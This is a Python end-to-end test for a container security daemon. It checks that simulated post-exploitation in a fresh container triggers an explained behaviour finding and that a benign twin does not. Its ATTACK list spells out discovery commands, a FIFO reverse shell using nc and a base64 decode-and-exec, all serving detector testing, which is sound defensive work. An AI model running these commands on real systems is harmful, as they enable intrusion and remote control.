# SPDX-License-Identifier: Apache-2.0
"""A learned image's fresh container gives an explained behaviour finding for post-exploitation.

The daemon (default components, observe mode, a 60 s learning period of 2 s windows) learns the
image from two containers of a small shell-script app (a job script run in a loop, a busybox
``httpd`` it fetches from) while operators run the job by hand through ``docker exec``, one of
them staying logged in (the runtime's own set-up of each exec is not the container's). Once
the baseline is fitted, two FRESH containers of the image start the same app:

- the victim: an operator-like shell already running in it (``docker exec -i … sh``) is taken
  over and plays discovery (``ps``, ``/proc/*/cmdline``, SUID search, account files), a FIFO
  reverse shell to a listener in the container's own network namespace, and a base64
  decode-and-exec, line by line as an intruder types them;
- the benign twin: the same shell session runs the job by hand, as the operator did.

The victim must get a finding of source ``behavior`` (not only rule findings), at medium or
above, explained feature by feature: the sequence part names the surprising transitions, the
window part the nearest normal mode and the features that differ from it. The twin must get no
behaviour finding of medium or above.
"""

from __future__ import annotations

import base64
import subprocess
import time
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any

from agent.findings import Severity
from tests.e2e.corpus.host import Listener, Session
from tests.e2e.daemon import Daemon
from tests.support import TEST_IMAGE, TEST_LABEL, wait_for

LEARN = 60.0  # the product learns for 10 minutes; 30 s left the twin short of transitions now and then
WATCH = 45.0  # seconds the fresh containers are scored
PORT = 4471
APP = (
    "mkdir -p /app /var/www; echo hello > /var/www/index.html; "
    "printf '%s\\n' 'date > /tmp/now' 'ls /etc > /tmp/etc.txt' 'grep -c root /etc/passwd > /tmp/count' "
    "'wget -q -O- http://127.0.0.1:8080/ > /tmp/page' 'cut -c1-4 /tmp/now | tr a-z A-Z > /dev/null' > /app/job.sh; "
    "httpd -f -p 8080 -h /var/www & while true; do sh /app/job.sh; sleep 0.4; done"
)
OPERATOR = ["sh /app/job.sh", "cat /tmp/now /tmp/count", "ls -l /tmp"]
PAYLOAD = base64.b64encode(b"id; cat /etc/hostname; ls /tmp; uname -a\n").decode()
ATTACK = [
    "id; uname -a; ps",
    "cat /proc/[0-9]*/cmdline > /dev/null 2>&1; cat /proc/[0-9]*/environ > /dev/null 2>&1; ls -la /proc/1/",
    "find / -xdev -perm -4000 2>/dev/null | head -n 5; cat /etc/passwd /etc/group; netstat -an",
    f"rm -f /tmp/f; mkfifo /tmp/f; nc 127.0.0.1 {PORT} < /tmp/f | sh > /tmp/f 2>&1 &",
    f"echo {PAYLOAD} | base64 -d | sh",
]


def start_app(client: Any, role: str, run_id: str) -> Any:
    return client.containers.run(
        TEST_IMAGE,
        ["sh", "-c", APP],
        detach=True,
        name=f"rgtest-h16-{role}-{run_id}",
        # its own baseline (group:<label value>): other tests on the host run this image too
        labels={TEST_LABEL: "1", "riskguard.baseline": f"h16-{run_id}"},
        network_mode="none",
    )


def operate(session: Session, lines: list[str], pause: float = 1.0) -> None:
    for line in lines:
        session.send(line)
        time.sleep(pause)


def medium_or_above(f: dict[str, Any]) -> bool:
    return Severity.parse(f["severity"]) >= Severity.MEDIUM  # the store's number or its name


def ctl_json(d: Daemon, *args: str) -> Any:
    try:
        return d.ctl_json(*args)
    except subprocess.TimeoutExpired:
        raise AssertionError(f"riskguardctl {' '.join(args)} got no answer in 60 s: {d.tail(80)}") from None


def behaviour_findings(d: Daemon, container_id: str) -> list[dict[str, Any]]:
    rows = ctl_json(d, "findings", "--container", container_id)
    return [r for r in rows if r["container_id"] == container_id and r["source"] == "behavior"]


def test_post_exploitation_in_a_fresh_container_gives_an_explained_behaviour_finding(
    daemon: Callable[..., Daemon], docker_client: Any, tmp_path: Path
) -> None:
    d = daemon(
        f"""
response: {{mode: observe}}
behavior: {{window_seconds: 2.0, learning_seconds: {LEARN}, min_windows: 10, finding_cooldown_seconds: 5}}
vuln: {{enabled: false}}
outputs: {{metrics: {{port: 0}}}}
"""
    )
    run_id = uuid.uuid4().hex[:8]
    baseline = f"group:h16-{run_id}"
    containers: list[Any] = []
    sessions: list[Session | Listener] = []
    try:
        containers += [start_app(docker_client, f"learn{i}", run_id) for i in (1, 2)]
        time.sleep(4)
        # An operator drops in now and then while it learns: each `docker exec` runs the runtime's
        # set-up inside the container's cgroup (a burst of prctl and friends whose order varies), so
        # learning sees it eight times, not four (four left the twin's first session with unseen
        # transitions now and then).
        # One operator also stays logged in to each (as on the twin later: a session open for the
        # whole watch), running the job by hand now and then.
        resident = [Session(c.id, tmp_path / f"resident{i}.log") for i, c in enumerate(containers)]
        sessions += resident
        for i, c in enumerate(containers * 4):
            op = Session(c.id, tmp_path / f"operator{i}.log")
            sessions.append(op)
            operate(op, OPERATOR)
            op.close()
            if i % 2:
                operate(resident[i % len(resident)], OPERATOR[:1], pause=0)
            time.sleep(2)

        def fitted() -> Any:
            rows = ctl_json(d, "baseline", "list")["baselines"]
            return next((b for b in rows if b["image"] == baseline and b["state"] == "scoring"), None)

        try:
            b = wait_for(fitted, timeout=LEARN + 120, interval=1.0, what=f"a fitted baseline {baseline}")
        except AssertionError as exc:
            rows = ctl_json(d, "baseline", "list")["baselines"]
            counters = ctl_json(d, "status")["components"].get("behavior", {}).get("counters")
            mine = [r for r in rows if r["image"] == baseline]
            raise AssertionError(f"{exc}: {mine}; behaviour counters {counters}; {d.tail(15)}") from None
        assert isinstance(b, dict) and b["training_windows"] >= 10
        kinds = {m["kind"] for m in b["models"] if m["version"] == b["version"]}
        assert kinds == {"deviation", "chain", "sequence"}, b["models"]

        victim = start_app(docker_client, "victim", run_id)
        twin = start_app(docker_client, "twin", run_id)
        containers += [victim, twin]
        scored_from = time.time()
        time.sleep(4)
        shell = Session(victim.id, tmp_path / "victim.log")  # the shell the intruder takes over
        ops = Session(twin.id, tmp_path / "twin.log")
        sessions += [shell, ops]
        operate(ops, OPERATOR)
        victim.reload()
        listener = Listener(int(victim.attrs["State"]["Pid"]), PORT, tmp_path / "listener.log")
        sessions.append(listener)
        time.sleep(3)  # the shell sits idle a few windows, as a session does before it is used
        operate(shell, ATTACK[:3], pause=1.5)
        operate(shell, ATTACK[3:4], pause=1.0)
        assert listener.proc.stdin is not None
        listener.proc.stdin.write(b"id\nls /\n")
        listener.proc.stdin.flush()
        operate(shell, ATTACK[4:], pause=1.0)
        operate(ops, OPERATOR)

        def explained() -> Any:
            found = [f for f in behaviour_findings(d, victim.id) if medium_or_above(f)]
            return found or None

        def story() -> str:
            rows = ctl_json(d, "findings", "--container", victim.id)
            seen = [(r["source"], r["detector_id"], r["severity"], r["summary"][:300]) for r in rows]
            counters = ctl_json(d, "status")["components"].get("behavior", {}).get("counters")
            return f"victim findings {seen}; behaviour counters {counters}"

        try:
            found = wait_for(explained, timeout=40, interval=1.0, what="a behaviour finding about the victim")
        except AssertionError as exc:
            raise AssertionError(f"{exc}: {story()}") from None
        assert isinstance(found, list)
        for f in found:  # every medium+ behaviour finding is explained both ways
            ev = f["evidence"]
            assert f["detector_id"].startswith("behavior."), f
            window = ev["window"]  # the nearest normal mode and the features that differ from it
            assert window["mode"] >= 0 and window["distance"] > 0 and window["differing_features"], ev
            assert all(
                {"feature", "value", "mode_value", "z_from_mode"} <= set(x) for x in window["differing_features"]
            )
            assert "sequence" in ev, (f["detector_id"], f["summary"], ev)
            chains = [t["chain"] for t in ev["sequence"]["surprising_transitions"]]  # what surprised the model
            assert chains and all("->" in c for c in chains), ev["sequence"]
        print(
            "\nvictim:",
            [(x["detector_id"], x["severity"], x["summary"][:240]) for x in behaviour_findings(d, victim.id)],
        )

        # the twin did the normal work (and its operator session) for as long: nothing medium+
        time.sleep(max(0.0, WATCH - (time.time() - scored_from)))
        twin_found = [x for x in behaviour_findings(d, twin.id) if medium_or_above(x)]
        # a string, so pytest prints it whole: which transitions and features the twin was judged on
        assert not twin_found, "\n".join(
            f"{x['detector_id']} {x['evidence']['period']['start'] - scored_from:.0f} s after the twin started: "
            f"{x['summary']}; "
            f"unseen {x['evidence'].get('unseen_transitions')}; sequence {x['evidence'].get('sequence')}"
            for x in twin_found
        )
    finally:
        for s in sessions:
            s.close()
        for c in containers:
            c.remove(force=True)
